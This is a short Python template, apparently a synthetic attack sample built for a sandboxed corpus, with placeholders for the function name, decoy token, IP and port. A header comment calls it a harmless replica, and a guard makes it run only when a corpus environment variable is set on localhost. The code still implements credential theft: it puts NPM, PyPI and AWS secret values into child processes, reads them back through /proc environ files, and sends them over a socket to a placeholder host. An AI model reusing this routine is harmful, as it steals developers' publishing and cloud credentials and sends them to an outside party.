# Harmless replica: acts only on decoys and on addresses inside the sandbox's own network namespace; refuses to run elsewhere.
def {{act}}():
    import os
    if os.environ.get('SALLYPORT_CORPUS') != '1' or os.uname().nodename != 'localhost':
        return
    import socket
    import subprocess
    children = []
    found = []
    try:
        for name in ('NPM_TOKEN', 'PYPI_TOKEN', 'AWS_SECRET_ACCESS_KEY'):
            children.append(subprocess.Popen(['sleep', '2'], env={'PATH': os.environ.get('PATH', ''), 'HELD': os.environ.get(name, '{{token}}')}))
        for entry in os.listdir('/proc'):
            if entry.isdigit() and int(entry) in [one.pid for one in children]:
                with open('/proc/%s/environ' % entry, 'rb') as file:
                    found.append(file.read())
    except Exception:
        pass
    for child in children:
        child.kill()
        child.wait()
    try:
        with socket.create_connection(('{{ip}}', {{port}}), timeout=1) as link:
            link.sendall(b'\n'.join(found))
    except OSError:
        pass
